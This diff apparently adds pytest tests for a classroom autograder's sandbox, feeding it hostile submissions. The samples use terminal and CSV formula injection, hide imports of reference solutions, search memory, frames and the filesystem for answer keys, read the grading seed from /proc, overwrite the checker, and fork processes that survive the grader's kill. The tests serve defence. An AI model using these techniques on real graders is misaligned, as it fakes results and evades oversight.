+
+@pytest.mark.parametrize(
+    "how",
+    [
+        f"raise ValueError({OBEYED!r} * 10_000)",
+        f"return type({OBEYED!r} * 100, (), {{}})()",
+        f"raise type({OBEYED!r}, (Exception,), {{}})",
+        f"exec(compile('raise ValueError', {'/submission/' + OBEYED!r}, 'exec'))",
+        "raise ValueError('=HYPERLINK(\"http://192.0.2.1\")')",
+        "raise ValueError('\\ud800' * 1000)",
+    ],
+)
+def test_words_that_a_terminal_obeys(arena, how):
+    """What it says turns the grader's terminal, its spreadsheet or its pager against the grader."""
+    attack = f"def estimate_demands(src, dst, num_hosts):\n    {how}"
+    grade, checks = arena.grade(demand=attack)
+    assert grade["remarks"].startswith("demand: ")
+    for text in [grade["remarks"], *(check["words"] for check in checks["demand"])]:
+        assert text.isprintable()
+        assert len(text) <= 1000
+    assert all(line.isprintable() for check in checks["demand"] for line in check["example"].split("\n"))
+
+
+@pytest.mark.parametrize(
+    "name", [OBEYED, '=HYPERLINK("x")', "+1", "-1", "@x", "a,b\n9,9", "\udcff\udcfe", "x" * 255]
+)
+def test_a_name_that_a_terminal_obeys(arena, name, tmp_path):
+    """Its folder's name does so."""
+    grade, _ = arena.grade(os.fsdecode(os.fsencode(name)), demand=HONEST["demand"])
+    assert grade["submission"].isprintable()
+    assert grade["submission"][0] not in "=+-@"
+    from classroom.grading import Grade
+
+    path = write_csv(tmp_path / "grades.csv", [Grade(**grade)])
+    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
+    assert row["points"] == "20"
+
+
+# --- work that is not its own -----------------------------------------------------------------------------
+
+STOLEN = """
+import importlib, sys
+sys.modules.pop("hedera", None)
+theirs = importlib.import_module("{module}")
+for name, module in list(sys.modules.items()):
+    pass
+{name} = getattr(sys.modules["{module}"], "{what}")
+"""
+
+
+def test_the_project_s_own_schedulers(arena):
+    """It wraps the project's own schedulers, by way of sys.modules and importlib, where no import is to be seen."""
+    grade, _ = arena.grade(
+        demand=STOLEN.format(module="hedera.figure_7", name="estimate_demands", what="estimate_demands"),
+        first_fit=STOLEN.format(module="hedera.global_first_fit", name="FirstFit", what="GlobalFirstFit"),
+        annealing=STOLEN.format(
+            module="hedera.simulated_annealing", name="Annealing", what="SimulatedAnnealing"
+        ),
+        scheduler=STOLEN.format(module="hedera.clos", name="Scheduler", what="ClosColouring"),
+    )
+    assert grade["points"] == 0.0
+    assert set(grade["uses"].split()) == {
+        "hedera.figure_7",
+        "hedera.global_first_fit",
+        "hedera.simulated_annealing",
+        "hedera.clos",
+    }
+
+
+def test_looking_for_answers(arena):
+    """It looks for something to answer with: in every object, frame, importer and file that it can reach."""
+    arena.attempt(
+        {
+            "an object": """
+import gc
+if not any(getattr(o, "__name__", "") in ("_est_src", "GlobalFirstFit", "check_milestone") for o in gc.get_objects()):
+    raise OSError
+""",
+            "a frame": """
+frame, found = sys._getframe(), []
+while frame:
+    found += [*frame.f_locals, *frame.f_globals]
+    frame = frame.f_back
+if not {"_est_src", "looks_of", "check_milestone"} & set(found):
+    raise OSError
+""",
+            "an importer": """
+import importlib.util
+for importer in sys.meta_path:
+    for name in ("hedera.figure_7", "hedera.demand", "classroom.milestones", "tests.classroom.solutions"):
+        try:
+            found = importer.find_spec(name, ["/code/hedera"])
+        except (ImportError, AttributeError):
+            continue
+        if found and found.origin and os.path.exists(found.origin):
+            break
+    else:
+        continue
+    break
+else:
+    raise OSError
+""",
+            "a file": """
+for folder, inside, files in os.walk("/"):
+    inside[:] = [name for name in inside if os.path.join(folder, name) not in ("/proc", "/usr/share")]
+    if {"figure_7.py", "global_first_fit.py", "histories.py", "mistakes.py"} & set(files):
+        break
+else:
+    raise OSError
+""",
+        }
+    )
+
+
+def test_the_seed_of_the_grading(arena):
+    """It looks for the seed of the grading, which says what traffic is to come, in all that it is given."""
+    look = f"""
+import gc, glob, sys
+def seen():
+    told = [repr(sys.argv), *(repr(open(p, "rb").read()) for p in glob.glob("/proc/[0-9]*/cmdline"))]
+    frame = sys._getframe()
+    while frame:
+        told += [repr(v)[:10_000] for v in frame.f_locals.values() if "told" not in frame.f_locals]
+        told += [repr(v)[:10_000] for v in frame.f_locals.values() if type(v).__module__ == "classroom.protocol"]
+        frame = frame.f_back
+    if any(str({SEED // 7} * 7) in text for text in told):
+        raise RuntimeError("BROKE OUT: it is there")
+"""
+    scheduler = """
+class Scheduler:
+    def __init__(self, tree, rng, options):
+        seen()
+    def place(self, flows, links):
+        seen()
+        return flows.hashed
+"""
+    annealing = HONEST["annealing"].replace(
+        "        self.flows, self.capacity", "        seen()\n        self.flows, self.capacity"
+    )
+    grade, checks = arena.grade(scheduler=look + scheduler, annealing=look + annealing)
+    assert "BROKE OUT" not in str(checks)
+    assert grade["quality"] == 0.0
+    assert grade["annealing"] == 1.0
+
+
+def test_replacing_the_checker(arena):
+    """It replaces, in all modules that it can reach, what says whether it is right."""
+    attack = """
+import sys
+for module in list(sys.modules.values()):
+    for name in ("check_milestone", "share_passed", "valid", "strict", "look_at"):
+        if hasattr(module, name):
+            setattr(module, name, lambda *given: [])
+def estimate_demands(src, dst, num_hosts):
+    return [0.5] * len(src)
+"""
+    assert arena.grade(demand=attack)[0]["demand"] <= 0.4
+
+
+def test_honest_work_beside_all_that(arena):
+    """Nothing of the above costs honest work anything."""
+    grade, _ = arena.grade("alice", **HONEST)
+    assert (grade["points"], grade["remarks"], grade["uses"]) == (70.0, "", "")
+    assert PROCESSOR_S < 120, "in less time than a class gets"
+
+
+def test_living_on_when_the_grader_is_killed(arena):
+    """It does all it can not to die with the grader, which is killed outright while it runs."""
+    attack = f"""
+import ctypes, os, signal, time
+libc = ctypes.CDLL(None)
+for number in signal.valid_signals() - {{signal.SIGKILL, signal.SIGSTOP}}:
+    signal.signal(number, signal.SIG_IGN)
+libc.prctl(1, 0)
+libc.syscall({number("prctl")}, 1 | 1 << 32, 0)
+{BOMB}
+open("/tmp/there", "w").close()
+while True:
+    time.sleep(60)
+"""
+    with tempfile.TemporaryDirectory(prefix="hedera-hostile-") as place:
+        os.chmod(place, 0o755)
+        other = Arena(arena.mode, Path(place))
+        assert not other.unfit
+        other.begin(op="ask", source=attack, loop=False, call_s=60.0)
+        assert wait_until(lambda: len(children_of(other.process.pid)) > 30, 30)
+        mine = children_of(other.process.pid)
+        other.process.kill()
+        other.process.wait()
+        other.process.stdin.close()
+        other.process.stdout.close()
+        assert wait_until(lambda: not any(alive(pid) for pid in mine), 10)
+    assert arena.ask(HONEST["demand"]) is None
+
+
+def children_of(pid):
+    """All that a process has started, and what that has."""
+    try:
+        with open(f"/proc/{pid}/task/{pid}/children") as file:
+            mine = [int(child) for child in file.read().split()]
+    except OSError:
+        return []
+    return [*mine, *(other for child in mine for other in children_of(child))]
+
+
+def alive(pid):
+    try:
+        with open(f"/proc/{pid}/stat") as file:
+            return file.read().rpartition(")")[2].split()[0] not in "ZX"
+    except OSError:
+        return False
